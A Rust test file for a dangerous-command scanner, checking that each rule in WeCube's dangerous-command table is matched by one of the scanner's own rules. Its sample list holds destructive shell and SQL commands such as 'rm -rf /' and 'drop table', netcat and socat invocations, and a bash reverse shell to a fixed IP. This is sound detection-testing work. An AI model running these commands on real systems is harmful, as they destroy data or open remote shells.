//! WeCube's table of dangerous commands: each of its rules finds its example, by the rule of ours that stands for it.

use packhorse_content::danger::{RuleSet, check};
use packhorse_model::danger::Language;

/// Number of the rule in the table, a script in which it finds something, and our rule.
const EXAMPLES: &[(u32, Language, &str, &str)] = &[
    (1, Language::Shell, "rm -rf /data/*", "rm-wildcard"),
    (2, Language::Shell, "reboot", "reboot"),
    (3, Language::Shell, "sysctl -p", "sysctl"),
    (4, Language::Sql, "drop table t;", "sql-drop-table"),
    (6, Language::Shell, "rm -rf /", "rm-root"),
    (7, Language::Sql, "truncate table t;", "sql-truncate-table"),
    (8, Language::Sql, "delete from t;", "sql-delete-all"),
    (9, Language::Sql, "SET FOREIGN_KEY_CHECKS=0;", "sql-foreign-key-checks"),
    (10, Language::Sql, "ALTER TABLE t ADD a int;", "sql-alter-table"),
    (11, Language::Sql, "update t set a = 1;", "sql-update-all"),
    (12, Language::Shell, "kill -s KILL 1", "kill-named-signal"),
    (13, Language::Shell, "kill -n 9 1", "kill-numbered-signal"),
    (14, Language::Shell, "kill -9 1", "kill-signal-option"),
    (15, Language::Shell, "nc -l 1", "netcat"),
    (16, Language::Shell, "socat a b", "socat"),
    (17, Language::Shell, "bash -i >& /dev/tcp/1.1.1.1/1 0>&1", "bash-reverse-shell"),
];

#[test]
fn every_rule_of_the_table_is_one_of_ours() {
    let path = crate::shared("data/wecube/init.inserts.sql");
    let text = std::fs::read_to_string(&path).expect("the samples are there");
    let rows = text.lines().find(|line| line.starts_with("INSERT INTO `rule` VALUES")).expect("the table has rows");
    // A row begins with its number: (1,'…
    let numbers: Vec<u32> = rows.split('(').filter_map(|row| row.split_once(",'")?.0.parse().ok()).collect();
    let ours: Vec<u32> = EXAMPLES.iter().map(|(number, ..)| *number).collect();
    assert_eq!(numbers, ours);
    let rules = RuleSet::of_defaults();
    for (number, language, example, expected) in EXAMPLES {
        let found = check(&rules, example, *language);
        assert!(found.findings.iter().any(|finding| finding.rule.as_str() == *expected), "{number}: {found:?}");
    }
}
